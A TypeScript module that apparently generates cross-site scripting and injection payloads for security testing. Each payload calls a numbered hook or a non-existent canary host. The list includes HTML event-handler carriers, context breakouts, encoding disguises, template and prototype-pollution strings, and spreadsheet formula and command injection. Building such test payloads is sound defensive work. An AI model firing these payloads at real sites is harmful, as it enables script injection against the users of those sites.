/** What a payload calls when a browser runs it: `HOOK(7)` names the seventh. */
export const HOOK = "_x";
/** A host that does not exist: a request to it was made by a payload. */
export const CANARY = "canario.invalid";

/** Markup that runs a script as soon as it is in a page, or when it is pressed. */
const CARRIERS: readonly ((run: string) => string)[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<svg onload=${run}>`,
  (run) => `<iframe onload=${run}>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<audio src=x onerror=${run}>`,
  (run) => `<video><source onerror=${run}>`,
  (run) => `<object data=x: onerror=${run}>`,
  (run) => `<embed src=x: onload=${run}>`,
  (run) => `<input autofocus onfocus=${run}>`,
  (run) => `<select autofocus onfocus=${run}>`,
  (run) => `<b tabindex=1 autofocus onfocus=${run}>`,
  (run) => `<details open ontoggle=${run}>`,
  (run) => `<svg><set onbegin=${run}>`,
  (run) => `<svg><animate onbegin=${run} dur=1s>`,
  (run) => `<iframe srcdoc="<img src=x onerror=parent.${run}>">`,
  (run) => `<link rel=stylesheet href=x: onerror=${run}>`,
  (run) => `<body onpageshow=${run}>`,
  (run) => `<p onpointerover=${run}>.</p>`,
  (run) => `<a href=javascript:${run}>.</a>`,
  (run) => `<form action=javascript:${run}><button>`,
  (run) => `<math href=javascript:${run}>.`,
  (run) => `<svg><a xlink:href=javascript:${run}>`,
  (run) => `<script src=//${CANARY}/${run}></script>`,
  (run) => `<img src=//${CANARY}/${run}>`,
  (run) => `<meta http-equiv=refresh content=0;//${CANARY}/${run}>`,
  (run) => `<base href=//${CANARY}/${run}>`,
];

/** Prefixes and suffixes that end the context into which a page inserts unescaped text. */
const BREAKOUTS: readonly ((markup: string) => string)[] = [
  (markup) => `">${markup}`,
  (markup) => `'>${markup}`,
  (markup) => `</title>${markup}`,
  (markup) => `</textarea>${markup}`,
  (markup) => `</script>${markup}`,
  (markup) => `--></style>${markup}`,
  (markup) => `]]>${markup}`,
];

const entities = (text: string, write: (code: number) => string): string =>
  text.replace(/[<>"'=()]/g, (letter) => write(letter.charCodeAt(0)));

/** Encodings that parsers interpret differently. */
const DISGUISES: readonly ((markup: string) => string)[] = [
  (markup) => markup.replace(/<(\w)(\w*)/g, (_, first, rest) => `<${first.toUpperCase()}${rest}`),
  (markup) => markup.replace(/<(\w+) /, "<$1/"),
  (markup) => markup.replace(/<(\w+) /, "<$1\t"),
  (markup) => entities(markup, (code) => `&#${code};`),
  (markup) => entities(markup, (code) => `&#x${code.toString(16)};`),
  (markup) => markup.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (markup) => encodeURIComponent(markup),
  (markup) => encodeURIComponent(encodeURIComponent(markup)),
  (markup) => entities(markup, (code) => `\\u${code.toString(16).padStart(4, "0")}`),
  // Full-width letters, which some databases fold to plain ones.
  (markup) => entities(markup, (code) => String.fromCharCode(code + 0xfee0)),
  (markup) => `<<${markup}//<`,
];

/** No markup at all: what scripts, templates, style sheets, addresses and spreadsheets would run. */
const BARE: readonly ((run: string) => string)[] = [
  (run) => `javascript:${run}`,
  (run) => `JaVaScRiPt:${run}`,
  (run) => `java\tscript:${run}`,
  (run) => `data:text/html,<script>${run}</script>`,
  (run) => `vbscript:${run}`,
  (run) => `//${CANARY}/${run}`,
  (run) => `';${run};'`,
  (run) => `";${run};"`,
  (run) => `\\";${run}//`,
  (run) => `\${${run}}`,
  (run) => `{{${run}}}`,
  (run) => `{{constructor.constructor('${run}')()}}`,
  (run) => `<%= ${run} %>`,
  (run) => `" onfocus=${run} autofocus x="`,
  (run) => `' onfocus=${run} autofocus x='`,
  (run) => `x onerror=${run}`,
  (run) => `[.](javascript:${run})`,
  (run) => `![.](//${CANARY}/${run})`,
  (run) => `{"__proto__":{"onload":"${run}"}}`,
  (run) => `*{background:url(//${CANARY}/${run})}`,
  (run) => `=HYPERLINK("//${CANARY}/${run}")`,
  (run) => `+cmd|' /C ${run}'!A0`,
  (run) => `-1+${run}`,
  (run) => `@SUM(${run})`,
];

const SHAPES: readonly ((run: string) => string)[] = [
  ...CARRIERS,
  ...BARE,
  ...CARRIERS.flatMap((carrier) =>
    [...BREAKOUTS, ...DISGUISES].map((change) => (run: string) => change(carrier(run))),
  ),
];

/** Every carrier plain, breaking out of every place and in every disguise; each calls the hook with its own number. */
export const PAYLOADS: readonly string[] = SHAPES.map((shape, n) => shape(`${HOOK}(${n})`));

/** All of them one after the other, in texts of at most this length. */
export const packed = (longest: number): readonly string[] => {
  const texts: string[] = [];
  let text = "";
  for (const payload of PAYLOADS) {
    const longer = text === "" ? payload : `${text} ${payload}`;
    if (longer.length > longest) texts.push(text);
    text = longer.length > longest ? payload : longer;
  }
  return [...texts, text];
};

export type Dealer = {
  /** The next payload, not longer than this in UTF-16 units, that this dealer has not handed out in this round. */
  readonly deal: (longest: number) => string;
};

/** Hands payloads out in their order, each once before any comes again: fields are of different lengths. */
export const dealer = (): Dealer => {
  let left: readonly string[] = PAYLOADS;
  return {
    deal: (longest) => {
      const next = left.find((payload) => payload.length <= longest) ?? shortest(longest);
      left = left.filter((payload) => payload !== next);
      return next;
    },
  };
};

const shortest = (longest: number): string => {
  const found = PAYLOADS.find((payload) => payload.length <= longest);
  if (found === undefined) throw new RangeError(`no payload is as short as ${longest}`);
  return found;
};
